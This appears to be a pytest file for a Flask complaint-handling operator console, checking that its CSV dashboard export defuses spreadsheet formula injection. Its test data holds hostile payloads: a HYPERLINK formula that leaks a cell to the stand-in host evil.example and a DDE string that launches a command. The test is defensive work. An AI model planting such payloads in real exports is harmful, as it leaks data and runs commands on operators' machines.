"""The operator console attacked through what citizens, central systems and links can
put in front of an operator: spreadsheet formulas in an export, a login link that sends
the operator elsewhere, a search that would unmask an anonymous caller. Real HTTP to
the app on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from gateway.app import create_app
from tests.gateway.test_central_events import SECRET, push
from tests.gateway.test_console import KEY, add, login

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")'


@pytest.fixture
def console(make_settings) -> Flask:
    app = create_app(make_settings(central_events_secret=SECRET, status_poll_seconds=0))
    add(app, "ani", "operator")
    add(app, "sari", "supervisor")
    yield app
    app.extensions["lapor"].close()


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(console):
    api = console.test_client()
    agencies = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    for n, agency in enumerate(agencies):
        doc = {
            "channel": "sms",
            "received_at": f"2026-11-{n + 2:02d}T09:00:00+07:00",
            "reporter": {"privacy": "confidential"},
            "title": FORMULA,
            "description": FORMULA + " jalan rusak di depan sekolah sudah dua bulan.",
        }
        code = api.post("/api/v1/complaints", json=doc, headers=KEY).json["tracking_code"]
        event = {"event_id": f"e{n}", "tracking_code": code, "status": "dispositioned"}
        event |= {"occurred_at": f"2026-11-{n + 3:02d}T09:00:00+07:00", "agency": agency}
        pushed = push(api, event).json
        assert pushed["recorded"] == 1, pushed
    client = console.test_client()
    login(client, "sari")
    for by in ("agency", "channel", "category", "region"):
        exported = client.get(f"/operator/dashboard.csv?start=2026-11-01&end=2026-11-30&by={by}")
        assert exported.status_code == 200
        rows = list(csv.reader(io.StringIO(exported.text)))
        for row in rows:
            for cell in row:
                assert not cell or cell[0] not in "=+-@\t\r", (by, cell)
    exported = client.get("/operator/dashboard.csv?start=2026-11-01&end=2026-11-30&by=agency")
    groups = {r["group"] for r in csv.DictReader(io.StringIO(exported.text))}
    # kept readable: the apostrophe tells the spreadsheet it is text, nothing is lost
    assert groups >= {"'" + a for a in agencies}
